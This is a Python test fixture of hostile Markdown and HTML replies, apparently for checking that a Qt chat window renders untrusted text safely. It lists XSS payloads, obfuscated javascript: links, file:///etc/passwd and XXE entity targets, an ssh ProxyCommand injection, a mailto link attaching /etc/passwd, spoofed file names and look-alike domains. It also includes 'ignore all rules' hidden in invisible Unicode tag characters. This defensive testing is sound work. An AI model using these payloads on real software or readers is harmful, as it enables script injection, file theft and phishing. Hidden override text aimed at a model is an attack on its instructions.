"""Replies that attack whoever shows them: each in another way tries to fetch, run, open, deceive or stall."""

from collections.abc import Iterator

from tests.app.window.markdown.stressors import STRESSORS

_TARGETS = {
    "file": "file:///etc/hosts",
    "relative": "cat.png",
    "home": "~/cat.png",
    "http": "http://example.com/cat.png",
    "https": "https://example.com/cat.png",
    "network": "//example.com/cat.png",
    "data": "data:image/png;base64,iVBORw0KGgo=",
    "qrc": "qrc:/qt-project.org/logos/pysidelogo.png",
    "colon": ":/qt-project.org/logos/pysidelogo.png",
    "unc": "\\\\\\\\server\\\\share\\\\cat.png",
    "image": "image://theme/cat",
}

_HTML = {
    "script": "<script>alert(1)</script>",
    "event": '<div onclick="alert(1)" onload=alert(2)>text</div>',
    "iframe": '<iframe src="file:///etc/hosts"></iframe>',
    "link": '<link rel="stylesheet" href="http://example.com/a.css">',
    "object": '<object data="file:///etc/hosts"></object>',
    "video": '<video src="http://example.com/a.mp4" autoplay></video>',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/hosts"/></svg>',
    "form": '<form action="http://example.com"><input type="password"><button>Go</button></form>',
    "table": '<table background="http://example.com/a.png"><tr><td width=9999999>x</td></tr></table>',
    "anchor": '<a href="javascript:alert(1)">x</a> <a name="y" href=file:///etc/hosts>z</a>',
    "comment": "<!-- --> <!--> <!---> <!-- <img src=x> -->",
    "doctype": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>&b;',
    "broken": "<<img src=x onerror=alert(1)//><img src='x\n\n'><img\nsrc=x>",
    "in entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "in code": "`<img src=x>` ``<script>``\n\n    <img src=file:///a>\n\n```html\n<img src=x>\n```\n",
    "in a table": "| <img src=x> | <script> |\n|---|---|\n| <a href='javascript:x'>y</a> | <br> |\n",
    "in a label": "[<img src=x>](http://example.com) ![<script>](http://example.com)",
    "in a language": '```<img src=x onerror=alert(1)>\nx\n```\n\n~~~"><script>\nx\n~~~\n',
    "qt": '<qt bgcolor="black"><img src=":/qt-project.org/logos/pysidelogo.png"></qt>',
}

LINKS = {
    "javascript": "javascript:alert(1)",
    "mixed case": "JaVaScRiPt:alert(1)",
    "tab within": "java\tscript:alert(1)",
    "entity tab": "java&Tab;script:alert(1)",
    "entity newline": "java&NewLine;script&colon;alert(1)",
    "entity letters": "&#106;&#97;vascript:alert(1)",
    "leading control": "\x01javascript:alert(1)",
    "leading space": "%20javascript:alert(1)",
    "escaped": "javascript%3Aalert(1)",
    "full width": "\uff4aavascript\uff1aalert(1)",
    "view source": "view-source:javascript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data image": "data:image/png;base64,iVBORw0KGgo=",
    "file": "file:///etc/passwd",
    "qrc": "qrc:/a.html",
    "smb": "smb://server/share",
    "unc": "\\\\\\\\server\\\\share",
    "ssh": "ssh://-oProxyCommand=calc/x",
    "ftp": "ftp://example.com/x",
    "settings": "x-apple.systempreferences:com.apple.preference.security",
    "application": "x-help-script://x/y.scpt",
    "about": "about:blank",
    "user": "http://apple.com@example.com/",
    "password": "https://apple.com:443@example.com/",
    "backslash": "http://example.com\\@apple.com",
    "host escaped": "http://%65xample.com/",
    "host with nul": "http://apple.com%00.example.com/",
    "no host": "http:///etc/passwd",
    "no slashes": "http:example.com",
    "port": "http://example.com:99999999/",
    "override in path": "http://example.com/\u202egnp.exe",
    "mail attach": "mailto:a@example.com?attach=/etc/passwd",
    "mail blind": "mailto:a@example.com?bcc=b@example.com",
    "mail newline": "mailto:a@example.com%0abcc:b@example.com",
    "newline within": "java\nscript:alert(1)",
    "long": "http://example.com/" + "a" * 10_000,
    "relative": "x.html",
    "fragment": "#x",
    "empty": "",
}
_FORMS = "[label]({0})\n\n[label](<{0}>)\n\n[label][x]\n\nbefore <{0}> after\n\n[x]: <{0}>\n"

_SIGNS = {
    "override": "safe\u202etxt.exe\u202c",
    "marks": "a\u200eb\u200fc\u061cd",
    "thousand overrides": "\u202e" * 1000 + "a",
    "zero width": "pass\u200bword\u200c\u200d\u2060\ufeff",
    "zero width message": "a" + "\u200b\u200c" * 2000 + "b",
    "tags": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "selectors": "a" + "".join(chr(0xE0100 + i) for i in range(200)),
    "fillers": "a\u3164b\u115fc\u1160d\uffa0e",
    "invisible maths": "f\u2061x\u2062y\u2063z\u2064",
    "controls": "".join(map(chr, range(32))) + "\x7f",
    "escape": "\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "nul": "a\0b\0\0**c\0**",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x85f\x1cg",
    "returns": "a\rb\r\nc\n\rd\r\r\n",
    "reversed surrogates": "\udc00\ud800" * 100,
    "surrogates in code": "`\ud800` \n\n```\n\udfff\n```\n",
    "surrogate in link": "[\ud800](http://example.com/\udc00)",
    "frame marks": "\ufdd0a\ufdd1b\ufdd0\ufdd0\ufdd1",
    "object": "\ufffc" * 50,
    "no characters": "\uffff\ufffe\U0001ffff\U0010ffff",
    "marks on one letter": "a" + "\u0301" * 10_000,
    "wide signs": "\U00012031\u2e3b" * 500,
    "joined emoji": "\U0001f468\u200d" * 1500,
    "indic": "\u0915\u094d" * 1500,
    "right to left": "\u05d0\u05d1 [\u05d2](http://example.com) \u05d3 1 + 2 " * 300,
    "look-alikes": "[apple.com](http://\u0430\u0440\u0440\u04cf\u0435.com/)",
    "spaces": "\u00a0\u2000\u2003\u3000\u1680\u205f" * 1000,
    "code that is not": "```\nif x:\u202e }\u2066 // \u2069\u2066\n```\n",
}


def _cases() -> Iterator[tuple[str, str]]:
    yield from ((f"html: {name}", source) for name, source in _HTML.items())
    for name, target in _TARGETS.items():
        yield f"image: {name}", f"![cat]({target}) ![cat](<{target}>) ![cat][x]\n\n[x]: <{target}>\n"
        yield f"image in html: {name}", f'<img src="{target}" srcset="{target} 2x"><p style="background:url({target})">'
    yield from ((f"link: {name}", _FORMS.format(address)) for name, address in LINKS.items())
    yield from ((f"signs: {name}", source) for name, source in _SIGNS.items())
    yield from ((f"stress: {name}", source) for name, source in STRESSORS.items())


CASES: dict[str, str] = dict(_cases())
